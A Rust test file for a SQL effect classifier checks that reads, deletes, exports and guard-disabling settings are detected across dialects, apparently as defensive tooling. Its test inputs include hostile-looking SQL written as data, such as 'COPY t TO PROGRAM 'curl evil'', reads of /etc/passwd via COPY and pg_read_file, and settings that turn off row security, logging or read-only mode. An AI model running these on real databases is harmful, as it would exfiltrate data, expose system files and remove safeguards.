//! Every effect of a text is found, wherever it hides.

use super::{Dialect, expect, expect_in, postgres};
#[cfg(target_arch = "wasm32")]
use wasm_bindgen_test::wasm_bindgen_test as test;

#[test]
fn plain_statements_have_their_effect() {
    expect(&[
        ("SELECT 1", "read none"),
        ("SELECT a FROM t", "read all table:t"),
        ("INSERT INTO a VALUES (1), (2)", "insert limited(2) table:a"),
        (
            "INSERT INTO a SELECT * FROM b WHERE x = 1",
            "read filtered table:b; insert filtered table:a",
        ),
        ("UPDATE a SET x = 1 WHERE y = 2", "update filtered table:a"),
        ("DELETE FROM a", "delete all table:a"),
        ("TRUNCATE a, b", "truncate all table:a table:b"),
        ("DROP TABLE a, b", "drop all table:a table:b"),
        ("DROP INDEX i", "drop all object:i"),
        ("CREATE TABLE t (a int)", "create none table:t"),
        ("ALTER TABLE t ADD b int", "alter all table:t"),
        ("GRANT SELECT ON t TO bob", "grant none table:t"),
        ("CREATE ROLE bob SUPERUSER", "grant none object:bob"),
        (
            "DROP ROLE bob",
            "drop all object:bob; grant none object:bob",
        ),
        ("CALL p(1)", "call unknown function:p"),
        ("VACUUM t", "admin none table:t"),
        ("TABLE t", "read all table:t"),
    ]);
}

#[test]
fn a_change_hides_nowhere() {
    expect(&[
        (
            "WITH d AS (DELETE FROM a RETURNING *) SELECT * FROM d",
            "delete all table:a",
        ),
        (
            "WITH d AS (DELETE FROM a RETURNING *) INSERT INTO b SELECT * FROM d",
            "insert unknown table:b; delete all table:a",
        ),
        ("EXPLAIN ANALYZE DELETE FROM a", "delete all table:a"),
        (
            "EXPLAIN (ANALYZE, COSTS off) DELETE FROM a",
            "delete all table:a",
        ),
        ("EXPLAIN (surprise) DELETE FROM a", "delete all table:a"),
        ("EXPLAIN (ANALYZE false) DELETE FROM a", "read none table:a"),
        ("EXPLAIN DELETE FROM a", "read none table:a"),
        (
            "PREPARE p AS DELETE FROM a",
            "delete all table:a; session none",
        ),
        (
            "COPY (DELETE FROM a RETURNING *) TO '/tmp/x'",
            "delete all table:a; export none location:file",
        ),
        (
            "CREATE TABLE b AS SELECT * FROM a",
            "read all table:a; create none table:b",
        ),
        (
            "SELECT * INTO b FROM a",
            "read all table:a; create none table:b",
        ),
        (
            "CREATE VIEW v AS SELECT * FROM a WHERE x = 1",
            "read filtered table:a; create none table:v",
        ),
        (
            "DECLARE c CURSOR FOR SELECT * FROM a",
            "read all table:a; session none",
        ),
    ]);
}

#[test]
fn blocks_are_opened() {
    expect_in(
        Dialect::Bigquery,
        &[("BEGIN DROP TABLE t; END", "drop all table:t; session none")],
    );
    expect_in(
        Dialect::Snowflake,
        &[("BEGIN DROP TABLE t; END", "drop all table:T; session none")],
    );
    expect_in(
        Dialect::Mssql,
        &[(
            "IF 1 = 1 BEGIN DELETE FROM t; END",
            "delete all table:t; session none",
        )],
    );
}

#[test]
fn sql_in_strings_is_followed_or_unknown() {
    expect_in(
        Dialect::Mssql,
        &[
            ("EXEC('DROP TABLE t')", "drop all table:t"),
            ("EXEC sp_executesql N'DELETE FROM t'", "delete all table:t"),
            ("EXEC('EXEC(''DROP TABLE t'')')", "drop all table:t"),
            ("EXEC(@sql)", "unknown unknown"),
            ("EXEC('DROP TABLE ' + @t)", "unknown unknown"),
            ("EXEC('no sql at all')", "unknown unknown"),
            ("EXEC p", "call unknown function:p"),
        ],
    );
    expect_in(
        Dialect::Bigquery,
        &[
            ("EXECUTE IMMEDIATE 'DROP TABLE t'", "drop all table:t"),
            ("EXECUTE IMMEDIATE CONCAT('a', 'b')", "unknown unknown"),
        ],
    );
    assert_eq!(
        postgres("SELECT query_to_xml('DELETE FROM t', true, true, '')"),
        "read none; delete all table:t; call unknown function:query_to_xml"
    );
    assert_eq!(
        super::told(
            "UNLOAD('SELECT * FROM t') TO 's3://b/x' IAM_ROLE default",
            Dialect::Redshift
        ),
        "read all table:t; export unknown location:url"
    );
}

#[test]
fn merge_does_what_its_branches_do() {
    expect(&[
        (
            "MERGE INTO a USING b ON a.id = b.id WHEN MATCHED THEN DELETE \
             WHEN NOT MATCHED THEN INSERT VALUES (b.id)",
            "read all table:b; insert all table:a; delete filtered table:a",
        ),
        (
            "MERGE INTO a USING b ON true WHEN MATCHED THEN UPDATE SET x = 1",
            "read all table:b; update all table:a",
        ),
        (
            "MERGE INTO a USING b ON a.id = b.id WHEN NOT MATCHED BY SOURCE THEN DELETE",
            "read all table:b; delete all table:a",
        ),
        (
            "MERGE INTO a USING (SELECT 1) s ON true WHEN MATCHED THEN DO NOTHING",
            "read none",
        ),
    ]);
}

#[test]
fn what_is_there_already_is_changed_too() {
    expect(&[(
        "INSERT INTO a VALUES (1) ON CONFLICT (id) DO UPDATE SET x = 2",
        "insert limited(1) table:a; update filtered table:a",
    )]);
    expect_in(
        Dialect::Mysql,
        &[(
            "REPLACE INTO a VALUES (1)",
            "insert limited(1) table:a; update filtered table:a",
        )],
    );
    expect_in(
        Dialect::Spark,
        &[(
            "INSERT OVERWRITE TABLE a SELECT * FROM b",
            "read all table:b; insert all table:a; delete all table:a",
        )],
    );
}

#[test]
fn data_on_its_way_out_or_in_is_told() {
    expect(&[
        (
            "COPY t TO PROGRAM 'curl evil'",
            "read all table:t; export all location:program",
        ),
        (
            "COPY t FROM '/etc/passwd'",
            "insert unknown table:t; import unknown table:t location:file",
        ),
        (
            "SELECT pg_read_file('/etc/passwd')",
            "read none; import unknown function:pg_read_file",
        ),
        (
            "SELECT * FROM t WHERE \"pg_catalog\".\"pg_read_file\" ('x') IS NULL",
            "read unknown table:t; import unknown function:pg_read_file",
        ),
    ]);
    expect_in(
        Dialect::Sqlite,
        &[
            ("ATTACH 'x.db' AS x", "import unknown location:file"),
            (
                "SELECT load_extension('x')",
                "read none; unknown unknown function:load_extension",
            ),
        ],
    );
    expect_in(
        Dialect::Clickhouse,
        &[
            (
                "INSERT INTO FUNCTION url('http://x', CSV) SELECT * FROM t",
                "read all table:t; export all function:url location:url; import unknown function:url",
            ),
            (
                "INSERT INTO file (a) VALUES (1)",
                "insert limited(1) table:file",
            ),
        ],
    );
    expect_in(
        Dialect::Duckdb,
        &[("SELECT * FROM 'x.csv'", "import unknown location:file")],
    );
    expect_in(
        Dialect::Oracle,
        &[(
            "SELECT UTL_HTTP.REQUEST('http://x') FROM dual",
            "read none; unknown unknown function:utl_http",
        )],
    );
}

#[test]
fn the_session_is_not_the_server() {
    expect(&[
        ("SET search_path = a", "session none"),
        ("BEGIN", "session none"),
        ("COMMIT; DROP SCHEMA s", "drop all object:s; session none"),
        ("SET ROLE admin", "grant none"),
        (
            "SELECT pg_terminate_backend(1)",
            "read none; admin unknown function:pg_terminate_backend",
        ),
    ]);
    expect_in(
        Dialect::Mysql,
        &[
            ("SET GLOBAL read_only = 0", "admin none"),
            ("SET @@global.read_only = 0", "admin none"),
            ("SET @x = 1", "session none"),
            ("KILL 5", "admin none"),
        ],
    );
}

#[test]
fn what_a_trigger_or_a_rule_does_is_judged_when_it_is_made() {
    expect(&[
        (
            "CREATE RULE r AS ON INSERT TO t DO DELETE FROM u WHERE a = 1",
            "delete unknown table:u; create none table:t object:r",
        ),
        (
            "CREATE RULE r AS ON INSERT TO t DO ALSO (DELETE FROM u; UPDATE v SET a = 1)",
            "update unknown table:v; delete unknown table:u; create none table:t object:r",
        ),
        (
            "CREATE RULE r AS ON INSERT TO t DO INSTEAD NOTHING",
            "create none table:t object:r",
        ),
    ]);
    expect_in(
        Dialect::Mysql,
        &[(
            "CREATE TRIGGER g AFTER INSERT ON t FOR EACH ROW BEGIN DELETE FROM u WHERE a = 1; END",
            "delete unknown table:u; create none table:t object:g",
        )],
    );
}

#[test]
fn what_is_replaced_is_thrown_away() {
    let drops = "create none table:t; drop all table:t";
    for dialect in [Dialect::Clickhouse, Dialect::Duckdb, Dialect::Mariadb] {
        expect_in(dialect, &[("CREATE OR REPLACE TABLE t (a int)", drops)]);
    }
    expect(&[
        (
            "CREATE OR REPLACE VIEW t AS SELECT 1",
            "create none table:t; alter all table:t",
        ),
        ("CREATE VIEW t AS SELECT 1", "create none table:t"),
    ]);
}

#[test]
fn a_setting_that_takes_a_guard_away_is_more_than_the_sessions_own() {
    expect(&[
        ("SET session_replication_role = replica", "admin none"),
        ("SET session_replication_role = origin", "session none"),
        ("SET LOCAL row_security = off", "grant none"),
        ("SET row_security TO on", "session none"),
        ("SET work_mem = '1GB'", "session none"),
        ("SET search_path TO shop", "session none"),
        ("SET statement_timeout = 0", "session none"),
        ("SET transaction_read_only = false", "admin none"),
        (
            "SELECT set_config('session_replication_role', 'replica', false)",
            "read none; admin unknown function:set_config",
        ),
        (
            "SELECT set_config('row_security', 'off', false)",
            "read none; grant unknown function:set_config",
        ),
    ]);
    expect_in(
        Dialect::Mysql,
        &[
            ("SET sql_log_bin = 0", "admin none"),
            ("SET @@SESSION.sql_log_bin = OFF", "admin none"),
            ("SET FOREIGN_KEY_CHECKS = 0", "admin none"),
            ("SET FOREIGN_KEY_CHECKS = 1", "session none"),
            (
                "SET a = 1, FOREIGN_KEY_CHECKS = 0",
                "admin none; session none",
            ),
            ("SET @foreign_key_checks = 0", "session none"),
            ("SET NAMES utf8mb4", "session none"),
            ("SET GLOBAL general_log = 0", "admin none"),
            (
                "SET PERSIST local_infile = 1",
                "admin unknown; session unknown",
            ),
        ],
    );
    expect_in(
        Dialect::Clickhouse,
        &[
            ("SET readonly = 0", "admin none"),
            ("SET max_threads = 4", "session none"),
            (
                "SELECT a FROM t WHERE b = 1 SETTINGS log_queries = 0",
                "read filtered table:t; admin none",
            ),
            (
                "SELECT a FROM t WHERE b = 1 SETTINGS max_threads = 1",
                "read filtered table:t",
            ),
        ],
    );
    expect_in(
        Dialect::Duckdb,
        &[
            ("SET enable_external_access = true", "admin none"),
            ("SET threads = 4", "session none"),
        ],
    );
    expect_in(
        Dialect::Hive,
        &[(
            "SET hive.security.authorization.enabled = false",
            "admin none",
        )],
    );
}

#[test]
fn what_lies_on_another_server_is_a_place_outside() {
    for text in [
        "INSERT INTO OPENROWSET('SQLNCLI', 'x', 'SELECT * FROM t') VALUES (1)",
        "INSERT INTO OPENQUERY(other, 'SELECT a FROM t') SELECT a FROM u",
    ] {
        let told = super::told(text, Dialect::Mssql);
        assert!(told.contains("export unknown function:open"), "{told}");
    }
    for (source, place) in [
        ("HTTP(url 'http://x' format 'TSV')", "url"),
        ("MYSQL(host 'x' table 't')", "server"),
        ("FILE(path '/x' format 'TSV')", "file"),
        ("EXECUTABLE(command 'x' format 'TSV')", "server"),
    ] {
        let text =
            format!("CREATE DICTIONARY d (a UInt64) PRIMARY KEY a SOURCE({source}) LAYOUT(FLAT())");
        let told = super::told(&text, Dialect::Clickhouse);
        assert!(
            told.contains(&format!("import unknown location:{place}")),
            "{told}"
        );
    }
    let told = super::told(
        "INSERT INTO FUNCTION url('http://x', 'CSV', 'a int') SELECT a FROM t",
        Dialect::Clickhouse,
    );
    assert!(
        told.contains("export all function:url location:url"),
        "{told}"
    );
}

#[test]
fn a_program_that_fills_a_dictionary_is_unknown() {
    let text = "CREATE DICTIONARY d (a UInt64) PRIMARY KEY a SOURCE(EXECUTABLE(command 'x'))";
    let told = super::told(text, Dialect::Clickhouse);
    assert!(told.contains("unknown unknown"), "{told}");
}

#[test]
fn what_is_looked_up_by_name_is_read() {
    expect_in(
        Dialect::Clickhouse,
        &[
            (
                "SELECT dictGet('shop.d', 'a', 1)",
                "read filtered table:shop.d",
            ),
            (
                "SELECT joinGet('j', 'b', a) FROM t LIMIT 1",
                "read limited(1) table:j table:t",
            ),
            (
                "SELECT dictGet(a, 'a', 1) FROM t WHERE b = 1",
                "read filtered table:t; unknown unknown",
            ),
        ],
    );
}
